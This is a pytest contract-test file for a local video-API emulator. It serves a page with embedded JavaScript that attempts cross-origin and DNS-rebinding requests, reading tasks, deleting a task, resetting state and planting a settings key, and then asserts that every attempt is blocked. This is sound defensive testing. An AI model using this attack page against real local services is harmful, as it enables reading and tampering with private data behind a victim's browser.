"""Pages of other origins in a real browser: they read nothing and change nothing."""

from __future__ import annotations

import json
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from contract_tests.support.browsers import FLAGS, browser
from contract_tests.support.emulators import plant, token_of
from twelvelabs_emulator import Emulator

__all__ = ["browser"]

PATIENCE = 60.0
"""How long a browser may take, in seconds."""
NAME = "rebound.test"
SECRET = "secret-holiday.mp4"
KEY = "tlk_secret"
PAGE = """
<script>
  const json = {"content-type": "application/json"}, key = {"x-api-key": "KEY"}
  const form = new FormData()
  form.append("index_id", "INDEX")
  form.append("video_url", "http://127.0.0.1:9/planted-by-a-page.mp4")
  const attacks = [
    ["/v1.3/tasks", {headers: key}],
    ["/v1.3/tasks", {mode: "no-cors"}],
    ["/v1.3/tasks", {method: "POST", headers: key, body: form}],
    ["/v1.3/tasks", {method: "POST", mode: "no-cors", body: form}],
    ["/v1.3/tasks/TASK", {method: "DELETE", headers: key}],
    ["/_emulator", {}],
    ["/_emulator/requests", {}],
    ["/_emulator/settings", {headers: {authorization: "Bearer guessed"}}],
    ["/_emulator/settings", {method: "PATCH", headers: json, body: '{"api_key": "planted"}'}],
    ["/_emulator/reset", {method: "POST"}],
    ["/_emulator/reset", {method: "POST", mode: "no-cors"}],
    ["/_emulator/scenarios", {method: "POST", mode: "no-cors", body: '{"status": 500}'}],
    ["/_emulator/requests", {method: "DELETE"}],
    ["/openapi.json", {}],
    ["/docs", {}],
  ]
  async function attempt(target, path, options) {
    try {
      const response = await fetch(target + path, options)
      return {target, path, type: response.type, status: response.status, body: await response.text()}
    } catch (error) {
      return {target, path, error: String(error)}
    }
  }
  async function main() {
    const found = []
    for (const target of TARGETS)
      for (const [path, options] of attacks) found.push(await attempt(target, path, options))
    await fetch("/report", {method: "POST", body: JSON.stringify(found)})
  }
  main()
</script>
<iframe name="hidden"></iframe>
<form id="form" target="hidden" method="post" enctype="text/plain" action="EMULATOR/_emulator/reset"></form>
<script>document.getElementById("form").submit()</script>
<img src="/reported">
"""


class Attacker(ThreadingHTTPServer):
    """A server with a page that requests everything it must not have.

    It forwards all other requests to the emulator, as if its name had been rebound to it in the meantime.
    """

    daemon_threads = True

    def __init__(self, emulator: Emulator) -> None:
        super().__init__(("127.0.0.1", 0), AttackRequest)
        self.emulator = emulator
        self.page = ""
        self.found: list[dict[str, Any]] = []
        self.reported = threading.Event()

    def write(self, task_id: str, targets: list[str]) -> None:
        """Write the page."""
        replaced = {
            "KEY": KEY,
            "INDEX": self.emulator.index_id,
            "TASK": task_id,
            "TARGETS": json.dumps(targets),
            "EMULATOR": targets[0],
        }
        self.page = PAGE
        for name, value in replaced.items():
            self.page = self.page.replace(name, value)


class AttackRequest(BaseHTTPRequestHandler):
    """A request of the browser."""

    def _respond(self) -> None:
        attacker = self.server
        assert isinstance(attacker, Attacker)
        body = self.rfile.read(int(self.headers.get("content-length", 0)))
        match self.path:
            case "/":
                self._send(200, attacker.page.encode())
            case "/report":
                attacker.found = json.loads(body)
                attacker.reported.set()
                self._send(200, b"")
            case "/reported":
                attacker.reported.wait(PATIENCE / 2)
                self._send(200, b"")
            case _:
                headers = [(name, value) for name, value in self.headers.items() if name.lower() != "content-length"]
                url = attacker.emulator.url + self.path
                response = httpx.request(self.command, url, headers=headers, content=body, trust_env=False)
                self._send(response.status_code, response.content)

    do_GET = do_POST = do_DELETE = do_PATCH = do_OPTIONS = _respond  # noqa: N815 - as in the standard library

    def _send(self, status: int, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - as in the standard library
        """Log nothing."""


@pytest.fixture
def emulator(emulator: Emulator) -> Emulator:
    """An emulator with a pinned key and something to hide."""
    emulator.configure(api_key=KEY)
    return emulator


@pytest.fixture
def task_id(emulator: Emulator) -> str:
    (task,) = plant(emulator, {"filename": SECRET, "status": "failed", "fault": SECRET})
    return task.id


@pytest.fixture
def attacker(emulator: Emulator) -> Iterator[Attacker]:
    with Attacker(emulator) as attacker:
        thread = threading.Thread(target=attacker.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        yield attacker
        attacker.shutdown()
        thread.join()


def visit(browser: str, url: str, folder: Path) -> None:
    """Visit a page."""
    command = [
        browser, *FLAGS, f"--user-data-dir={folder / 'profile'}", f"--screenshot={folder / 'screenshot.png'}",
        f"--host-resolver-rules=MAP {NAME} 127.0.0.1", url,
    ]  # fmt: skip
    subprocess.run(command, capture_output=True, timeout=PATIENCE, check=False)


def state(emulator: Emulator) -> dict[str, Any]:
    """Return everything that a page could change."""
    headers = {"x-api-key": KEY}
    before = [attr for attr in emulator.received if attr.operation != "list_tasks"]
    return {
        "tasks": httpx.get(f"{emulator.base_url}/tasks", headers=headers).json(),
        "settings": httpx.get(f"{emulator.url}/_emulator/settings", headers=token_of(emulator)).json(),
        "scenarios": emulator.scenarios,
        "index": emulator.index_id,
        "requests": before,
    }


@pytest.mark.slow
@pytest.mark.parametrize("host", ["127.0.0.1", NAME], ids=["another origin", "a rebound name"])
def test_a_page_of_another_origin_reads_nothing_and_changes_nothing(
    host: str, browser: str, emulator: Emulator, attacker: Attacker, task_id: str, tmp_path: Path
) -> None:
    port = emulator.url.rpartition(":")[2]
    targets = [f"http://127.0.0.1:{port}", f"http://localhost:{port}", f"http://{NAME}:{port}"]
    if host == NAME:
        targets.append("")  # The page's own origin, whose name leads to the emulator meanwhile.
    attacker.write(task_id, targets)
    before = state(emulator)
    visit(browser, f"http://{host}:{attacker.server_port}/", tmp_path)
    assert attacker.reported.is_set()
    assert len(attacker.found) == len(targets) * 15
    for found in attacker.found:
        assert "error" in found or found["type"] == "opaque" or found["status"] == 403, found
        assert SECRET not in found.get("body", ""), found
        assert "tasks" not in json.dumps(found.get("body", "")), found
    assert state(emulator) == before


@pytest.mark.slow
def test_a_page_whose_origin_is_allowed_uses_the_api_and_nothing_else(
    browser: str, attacker: Attacker, tmp_path: Path
) -> None:
    origin = f"http://127.0.0.1:{attacker.server_port}"
    with Emulator(api_key=KEY, cors_origins=[origin]) as emulator:
        attacker.emulator = emulator
        (task,) = plant(emulator, {"filename": SECRET, "status": "failed"})
        attacker.write(task.id, [emulator.url])
        visit(browser, f"{origin}/", tmp_path)
        assert attacker.reported.is_set()
        responses = [(found["path"], found.get("status")) for found in attacker.found]
        assert responses[0] == ("/v1.3/tasks", 200)
        assert SECRET in attacker.found[0]["body"]
        assert responses[2] == ("/v1.3/tasks", 200)
        assert {status for path, status in responses if path.startswith("/_emulator")} <= {None, 0}
        assert emulator.scenarios == []
        assert [received.status for received in emulator.received if received.method == "POST"] == [200, 401]
